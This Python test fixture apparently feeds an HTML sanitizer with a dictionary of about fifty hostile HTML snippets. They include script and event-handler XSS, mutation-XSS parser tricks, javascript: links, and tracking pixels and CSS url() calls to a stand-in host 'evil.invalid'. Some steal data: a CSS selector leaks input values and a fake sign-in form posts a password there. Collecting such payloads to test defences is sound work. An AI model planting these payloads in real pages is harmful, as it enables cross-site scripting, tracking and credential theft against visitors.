# ruff: noqa: E501  a page of a sender stands in one line, as it came
"""Pages as hostile senders write them. `SERVER` stands for a server of theirs that counts who comes."""

from __future__ import annotations

from typing import Final

SERVER: Final = "http://evil.invalid"
_S: Final = SERVER

HOSTILE: Final[dict[str, str]] = {
    "script": f"<script>alert(1);fetch('{_S}/script')</script>Words",
    "script-source": f"<script src='{_S}/script.js'></script>Words",
    "script-broken-tag": f"<scr<script>ipt>alert(1)</script><script/src='{_S}/x.js'></script >Words",
    "on-error": f"<img src='{_S}/x' onerror=alert(1)><img src=x: onerror=alert(2)>Words",
    "on-load-body": "<body onload=alert(1)><p onmouseover=alert(2)>Words</p>",
    "on-toggle": "<details open ontoggle=alert(1)><summary>x</summary>Words</details>",
    "autofocus": "<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(2)></textarea>Words",
    "tracking-pixel": f"<img src='{_S}/pixel.gif' width=1 height=1 alt=''>Words",
    "picture-no-scheme": f"<img src='{_S.removeprefix('http:')}/pixel.gif'>Words",
    "picture-srcset": f"<img srcset='{_S}/a 1x, {_S}/b 2x'><picture><source srcset='{_S}/c'><img src=x></picture>Words",
    "picture-lazy": f"<img loading=eager fetchpriority=high src='{_S}/lazy'><image src='{_S}/image'>Words",
    "background": f"<body background='{_S}/bg'><table background='{_S}/t'><tr><td background='{_S}/td'>Words</table>",
    "style-url": f"<p style=\"background:url({_S}/style);list-style:url('{_S}/l');cursor:url({_S}/c),auto\">Words</p>",
    "style-escaped-url": f"<p style='background:\\75\\72\\6c({_S}/escaped)'>Words</p><p style='b/**/ackground:u/**/rl({_S})'>",
    "style-import": f"<style>@import url('{_S}/import.css');@import '{_S}/two.css';</style>Words",
    "style-exfiltration": (
        f"<style>input[value^='a']{{background:url({_S}/a)}}body::before{{content:url({_S}/c)}}"
        f"@font-face{{font-family:x;src:url({_S}/font)}}*{{font-family:x}}</style><input value=abc>Words"
    ),
    "style-expression": "<p style='width:expression(alert(1));behavior:url(#x);-moz-binding:url(http://x)'>Words</p>",
    "style-over-the-page": "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999'>Words</div>",
    "link-stylesheet": f"<link rel=stylesheet href='{_S}/s.css'><link rel=preload as=image href='{_S}/p'>Words",
    "link-prefetch": f"<link rel=dns-prefetch href='{_S}'><link rel=preconnect href='{_S}'><link rel=prefetch href='{_S}/f'>x",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={_S}/refresh'>Words",
    "meta-policy": '<meta http-equiv=Content-Security-Policy content="default-src *"><meta charset=utf-7>+ADw-script+AD4-',
    "base": f"<base href='{_S}/' target=_top><a href=relative>Words</a><img src=relative.png>",
    "form": f"<form action='{_S}/form' method=post><input name=password><button autofocus>Sign in</button></form>Words",
    "form-outside": f"<form id=f action='{_S}/f'></form><button form=f formaction='{_S}/g'>Sign in again</button>",
    "frame": f"<iframe src='{_S}/frame'></iframe><frameset><frame src='{_S}/f2'></frameset>Words",
    "srcdoc": f"<iframe srcdoc=\"<script>parent.alert(1)</script><img src='{_S}/srcdoc'>\"></iframe>Words",
    "object": f"<object data='{_S}/o'></object><embed src='{_S}/e'><applet code=x archive='{_S}/a'></applet>Words",
    "media": f"<video src='{_S}/v' poster='{_S}/p' autoplay></video><audio src='{_S}/a' autoplay></audio>Words",
    "svg": f"<svg onload=alert(1)><image href='{_S}/svg'/><use href='{_S}/use#x'/><script>alert(2)</script></svg>Words",
    "svg-animated-link": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>Click</text></a></svg>",
    "svg-in-picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">Words",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation-noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>Words</noscript>",
    "mutation-style-in-svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>Words",
    "mutation-nested-forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>",
    "mutation-template": "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>Words",
    "mutation-comment": "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(2)>--!>Words<![CDATA[<script>]]>",
    "link-javascript": "<a href='javascript:alert(1)'>Words</a><a href=' &#1;jAvA&#x09;script:alert(1)'>again</a>",
    "link-data": "<a href='data:text/html,<script>alert(1)</script>'>Words</a><a href='vbscript:msgbox(1)'>again</a>",
    "link-top": f"<a href='{_S}/top' target=_top>Click here</a><area href='{_S}/area'><map><area href='{_S}/a2'></map>",
    "link-ping": f"<a href='#x' ping='{_S}/ping' download>Click here</a><a href='{_S}/p' rel=opener target=_blank>there</a>",
    "link-says-otherwise": f"<a href='{_S}/login'>https://agency.example/records</a>",
    "unicode-turned": "<p>Pay \u202egpj.exe\u2066 now\u200b</p><a href='https://a\u0440\u0440le.example/'>apple.example</a>",
    "zero-bytes": "<scr\x00ipt>alert(1)</scr\x00ipt><img src='x' \x00onerror=alert(1)>Words",
    "our-own-classes": "<span class=ours><h2>Where its links lead</h2></span><footer class=ours>Words</footer></main></body></html>",
    "broken-out": "</main></body></html><script>top.location='about:blank'</script><p>Words",
    "hidden-words": "<div style='display:none;font-size:0;color:#fff'>Words that a reader must see</div>",
}
